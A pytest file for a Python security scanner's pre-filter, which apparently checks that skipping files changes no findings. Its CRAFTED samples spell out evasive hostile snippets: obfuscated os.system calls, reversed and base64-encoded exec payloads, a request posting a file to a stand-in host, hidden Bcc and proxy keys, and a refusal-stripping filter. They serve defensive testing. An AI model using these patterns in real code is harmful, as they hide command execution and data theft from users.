"""The Python engine's pre-filter (analyzers/python/prefilter.py) skips libcst's parse and the walk of a file in
which no check family's triggers occur. What it must keep: the engine's result for every file is the one the
full analysis gives. Proven here over every annotated rule sample and every fixture (the whole scan, with and
without the pre-filter), over crafted files that build what the checks read without naming it, and by every
family declaring its own triggers (a family added without them is caught, and the engine then skips nothing)."""

from __future__ import annotations

from pathlib import Path

import pytest
from samples import sample_packages

from skillscan.analyzers.python import analyze_source, prefilter, repeat, skipped
from skillscan.analyzers.python.capmap import load_capmap
from skillscan.analyzers.python.checks.proxy import PROXY_KEY, PROXY_KEYS
from skillscan.analyzers.python.triggers import Triggers, finite_language
from skillscan.engine import ScanOptions, scan

ROOT = Path(__file__).resolve().parent.parent


def _full(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(prefilter, "candidate", lambda text, capmap: None)


def _both(text: str, monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
    capmap = load_capmap(None)
    on = repr(analyze_source(text, "x.py", capmap))
    with monkeypatch.context() as m:
        _full(m)
        off = repr(analyze_source(text, "x.py", capmap))
    return on, off


def _findings(inputs: list[str]) -> list[tuple[str, ...]]:
    repeat._memo.clear()  # each run analyses every file itself
    report = scan(inputs, ScanOptions(jobs=1, merge=False, use_cache=False))
    return sorted((r.package.input, f.rule_id, f.location.path, str(f.location.line), f.message,
                   repr(f.capabilities), repr(f.flow), str(f.confidence))
                  for r in report.results for f in r.findings)


def test_every_rule_sample_and_fixture_scans_the_same_with_and_without_the_prefilter(
        monkeypatch: pytest.MonkeyPatch) -> None:
    inputs = [str(p) for p in sample_packages(ROOT / "tests" / "rules")]
    inputs += [str(p) for p in sorted((ROOT / "fixtures").iterdir())
               if not p.name.startswith(".") and p.name != "LABELS.tsv"]
    seen: list[bool] = []
    real = prefilter.quiet

    def counting(f: prefilter._File, tokens: list) -> bool:  # type: ignore[type-arg]
        seen.append(real(f, tokens))
        return seen[-1]

    monkeypatch.setattr(prefilter, "quiet", counting)
    with_prefilter = _findings(inputs)
    with monkeypatch.context() as m:
        _full(m)
        without = _findings(inputs)
    assert with_prefilter == without
    assert sum(seen) >= 10, "the pre-filter skipped (almost) nothing: the comparison proves little"


# what each family reads, written so that its name or value is not spelt where the family looks for it
CRAFTED = {
    "computed name": 'import os\ngetattr(os, "sys" + "tem")("id")\n',
    "imported under another name": "from os import system as s\ns('id')\n",
    "typed by a constructor": "import requests\ns = requests.session()\ns.post('https://h.example/x', data=open('f'))\n",
    "pathlib method on an unknown value": "def f(p):\n    return p.read_text()\n",
    "bcc key built from pieces": 'msg = {}\nmsg["B" + "cc"] = "boss@corp-mail.net"\n',
    "bcc key through a name": 'K = "Bcc"\nm = {}\nm[K] = "x@corp-mail.net"\n',
    "bcc key through a template": 'm = {}\nm["%scc" % "B"] = "x@corp-mail.net"\n',
    "proxy key with an odd case": 'cfg = {"PROXY": "http://10.0.0.1:8080", "token": "abc"}\n',
    "proxy key from pieces": 'cfg = {"pro" "xy": "http://10.0.0.1:8080", "auth": "x"}\n',
    "invisible characters by escape": 'Z = {"0": "\\u200b", "1": "\\u200c"}\n',
    "invisible characters by code": 'Z = {"0": chr(0x200b), "1": chr(0x200c)}\n',
    "hidden link in adjacent literals": 'H = ("<a href=\'https://x.example/a\' " "style=\'display:none\'>x</a>")\n',
    "reversed payload": 'c = ")di(metsys.so ;so tropmi"[::-1]\nexec(c)\n',
    "split literals": 'u = "https://c2" + ".exa" + "mple.com/x"\n',
    "long encoded literal": 'P = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuY29tJyk="\n',
    "safety filter": 'PATS = [r"\\bsafety\\b", r"refuse"]\ndef hit(t):\n    return any(p in t for p in PATS)\n'
                     'out = [x for x in lines if not hit(x)]\n',
    "score boost": 'def score(item):\n    s = 0\n    if item["brand"] == "Acme":\n        s += 10\n    return s\n',
    "entry point": 'def main():\n    pass\n\nif __name__ == "__main__":\n    main()\n',
    "long attribute chain": "x = a" + ".b" * 3000 + "\n",
    "plain helper": "def add(a, b):\n    return a + b\n\n\nclass Box:\n    size = 3\n",
    "syntax error": "def f(:\n    pass\n",
    "python 2": "print 'hello'\n",
    "long f-string": 'def f(name):\n    return f"hello {name}, this is a rather long greeting line for you"\n',
    "unicode case": 'cfg = {"proxieſ": "http://10.0.0.1:8080", "token": "t"}\n',
}


@pytest.mark.parametrize("name", sorted(CRAFTED))
def test_crafted_files_give_what_the_full_analysis_gives(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    on, off = _both(CRAFTED[name], monkeypatch)
    assert on == off


def test_files_that_name_nothing_the_checks_read_are_skipped() -> None:
    capmap = load_capmap(None)
    assert skipped(CRAFTED["plain helper"], capmap)
    assert skipped(CRAFTED["long f-string"], capmap)
    for name in ("computed name", "imported under another name", "bcc key built from pieces", "syntax error",
                 "long attribute chain", "reversed payload", "proxy key from pieces", "unicode case"):
        assert not skipped(CRAFTED[name], capmap), name


def test_every_family_declares_its_own_triggers() -> None:
    assert prefilter.undeclared(prefilter.families()) == []
    assert prefilter.declared_triggers() is not None


def test_a_family_added_without_triggers_fails_and_turns_the_prefilter_off(monkeypatch: pytest.MonkeyPatch) -> None:
    from skillscan.analyzers.python import checks
    from skillscan.analyzers.python.checks.tls import TlsChecks

    class NewChecks(TlsChecks):  # inherits TlsChecks.TRIGGERS: an inherited declaration does not count
        def check_something_new(self) -> None:
            pass

    monkeypatch.setattr(checks, "FAMILIES", (*checks.FAMILIES, NewChecks))
    prefilter.declared_triggers.cache_clear()
    try:
        assert prefilter.undeclared(prefilter.families()) == ["NewChecks"]
        assert prefilter.declared_triggers() is None
        assert not skipped(CRAFTED["plain helper"], load_capmap(None))  # nothing is skipped any more
    finally:
        monkeypatch.undo()
        prefilter.declared_triggers.cache_clear()
    assert skipped(CRAFTED["plain helper"], load_capmap(None))


def test_keys_are_read_from_the_checks_own_patterns() -> None:
    assert "https_proxy" in PROXY_KEYS and "proxies" in PROXY_KEYS
    assert all(PROXY_KEY.match(k) for k in PROXY_KEYS)
    assert finite_language(r"(?i)^(?:ab|c_?d)$") == {"ab", "cd", "c_d"}
    with pytest.raises(ValueError):
        finite_language(r"^a+$")


def test_an_unknown_shape_is_refused() -> None:
    with pytest.raises(ValueError):
        Triggers(shapes=frozenset({"no-such-shape"}))
